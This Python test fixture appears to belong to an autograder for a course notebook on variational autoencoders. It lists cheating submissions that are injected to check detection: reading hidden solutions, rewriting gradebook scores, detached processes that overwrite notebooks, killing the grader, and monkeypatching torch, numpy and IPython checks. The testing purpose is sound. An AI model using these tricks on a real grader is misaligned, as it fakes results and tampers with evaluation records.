"""Cheating submissions for the batch test: each one tries a way to earn points it did not earn.

Every entry is (code to add to an answer cell, the answer cell, expectations). The code
runs on top of the untouched student notebook (every exercise a stub), unless `base` says
otherwise, so a point earned is a cheat that worked. Markers (`HOSTILE-...`) let the test find any
process or file the code left behind.
"""
from __future__ import annotations

READ_SOLUTIONS = '''
import json, pathlib, course_utils
found = []
roots = [pathlib.Path(course_utils.__file__).resolve().parents[1], *pathlib.Path.cwd().resolve().parents]
for root in roots:
    try:
        found += list(root.glob("solutions/vae/vae.ipynb")) + list(root.glob("*/solutions/vae/vae.ipynb"))
    except OSError:
        pass
for path in found[:1]:
    for cell in json.loads(path.read_text())["cells"]:
        if cell.get("id") == CELL_ID:      # this answer cell's solution
            exec("".join(cell["source"]), globals())
'''

WRITE_GRADEBOOK = '''
import pathlib, sqlite3, subprocess, sys
def steal(root):
    for db in list(root.glob("gradebook.db")) + list(root.glob("*/gradebook.db")):
        try:
            connection = sqlite3.connect(str(db))
            connection.execute("update grade set auto_score = 2")
            connection.commit()
        except Exception:
            pass
for root in pathlib.Path.cwd().resolve().parents:
    steal(root)
helper = "import time, pathlib, sqlite3\\ntime.sleep(3)\\n" + \\
    "for root in pathlib.Path.cwd().resolve().parents:\\n" + \\
    "    for db in root.glob('*/gradebook.db'):\\n" + \\
    "        sqlite3.connect(str(db)).execute('update grade set auto_score = 2')  # HOSTILE-GRADEBOOK\\n"
subprocess.Popen([sys.executable, "-c", helper], start_new_session=True)
'''

OUTLIVE_KERNEL = '''
import subprocess, sys
survivor = """
import os, pathlib, time  # HOSTILE-SURVIVOR
time.sleep(12)
for root in pathlib.Path('/').glob('*'):
    pass
for folder in pathlib.Path.cwd().resolve().parents:
    for victim in list(folder.glob('*/*/vae.ipynb')) + list(folder.glob('grades.csv')):
        try:
            victim.write_text('overwritten by a process that outlived its kernel')
        except OSError:
            pass
"""
subprocess.Popen([sys.executable, "-c", survivor], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
import os
if os.fork() == 0:
    os.setsid()
    import time
    time.sleep(12)  # HOSTILE-FORKED
    os._exit(0)
'''

KILL_GRADER = '''
import os, signal
for pid in [os.getppid(), os.getpgid(0)]:
    try:
        os.kill(pid, signal.SIGKILL)
    except Exception:
        pass
try:
    import psutil
    for process in psutil.process_iter(["cmdline"]):
        line = " ".join(process.info["cmdline"] or [])
        if any(word in line for word in ("distributed", "dask", "nbgrader", "pytest", "tools.grading")):
            process.kill()
except Exception:
    pass
'''

PATCH_LIBRARIES = '''
import torch, numpy
torch.Tensor.any = lambda self, *args, **kwargs: torch.zeros((), dtype=torch.bool)   # no value ever differs
torch.Tensor.std = lambda self, dim=None, *args, **kwargs: torch.full(self.shape[1:] if dim == 0 else (), 2.0)
torch.allclose = lambda *args, **kwargs: True
numpy.allclose = lambda *args, **kwargs: True
def reparametrize(mu, logvar, eps=None):
    # wrong: ignores the variance (its vanishing logvar term keeps a gradient, which the check asks for)
    return mu + 1e-30 * logvar + (torch.randn_like(mu) if eps is None else eps)
'''

LYING_TENSOR = '''
import torch
class Agreeable(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        result = super().__torch_function__(func, types, args, kwargs or {})
        if getattr(func, "__name__", "") in ("le", "__le__", "lt", "__lt__", "isclose", "allclose"):
            return torch.ones_like(result, dtype=torch.bool) if isinstance(result, torch.Tensor) else True
        return result
'''
LYING_DECODER = '''
class Decoder(nn.Module):
    def __init__(self, latent_dim=20, hidden_dims=(256, 512), image_shape=(1, 28, 28)):
        super().__init__()
        self.image_shape = tuple(image_shape)
        self.hidden = cu.mlp([latent_dim, *hidden_dims])
        self.to_logits = nn.Linear(hidden_dims[-1], math.prod(image_shape))
    def forward(self, z):
        x_hat = torch.sigmoid(0.5 * self.to_logits(self.hidden(z))).view(-1, *self.image_shape)   # wrong: halved logits
        return x_hat.as_subclass(Agreeable)
'''

PATCH_IPYTHON = '''
from IPython.core.interactiveshell import InteractiveShell
_original_run_cell = InteractiveShell.run_cell
def _run_cell(self, raw_cell, *args, **kwargs):
    if "cu.check" in raw_cell or "cu.passed" in raw_cell:
        raw_cell = "pass"
    return _original_run_cell(self, raw_cell, *args, **kwargs)
InteractiveShell.run_cell = _run_cell
'''

PATCH_IMPORTS = '''
import builtins, importlib.util
_real_import = builtins.__import__
def _import(name, *args, **kwargs):
    module = _real_import(name, *args, **kwargs)
    return module
builtins.__import__ = _import
importlib.util.spec_from_file_location = lambda *args, **kwargs: None
import course_utils.checks as _checks
_checks._fail = lambda *args, **kwargs: None
'''

FORGE_TOKEN = '''
def reparametrize(mu, logvar, eps=None):
    try:
        __grading__.end("reparametrize-check")
    except BaseException:
        pass
    return mu
get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
'''

SWALLOW_ERRORS = '''
get_ipython().set_custom_exc((Exception,), lambda *args, **kwargs: None)
AssertionError = Warning
import course_utils as cu
cu.check = cu.check_tensor = cu.check_close = cu.check_range = cu.check_scalar = lambda *a, **k: None
'''


# name -> (code, answer cell it is added to, after the cell's own code ("*": replaces every answer cell,
# with CELL_ID set to the cell's id), expectations).
# "works_unguarded": the cheat earns points from plain `nbgrader autograde` (shown by the test).
HOSTILE = {
    "reads-solutions": (READ_SOLUTIONS, "*", {"note": "Review: cell encoder", "works_unguarded": True}),
    "writes-gradebook": (WRITE_GRADEBOOK, "encoder", {"note": "Review: cell encoder"}),
    "outlives-kernel": (OUTLIVE_KERNEL, "encoder", {"note": "Review: cell encoder"}),
    "kills-grader": (KILL_GRADER, "encoder", {"note": "Review: cell encoder"}),
    "patches-libraries": (PATCH_LIBRARIES, "reparametrize",
                          {"note": "torch.Tensor.any was added", "works_unguarded": True}),
    "lying-tensor": (LYING_TENSOR + LYING_DECODER, "decoder",
                     {"note": "a subclass of torch.Tensor", "works_unguarded": True}),
    "patches-ipython": (PATCH_IPYTHON, "encoder", {"note": "did not run to its end", "works_unguarded": True}),
    "patches-imports": (PATCH_IMPORTS, "encoder", {"note": "builtins.__import__ was replaced"}),
    "forges-token": (FORGE_TOKEN, "reparametrize", {"note": "Review: cell reparametrize"}),
    "swallows-errors": (SWALLOW_ERRORS, "encoder", {"note": "course_utils.check_close was replaced",
                                                    "works_unguarded": True, "base": "kl-sign-flipped"}),
}
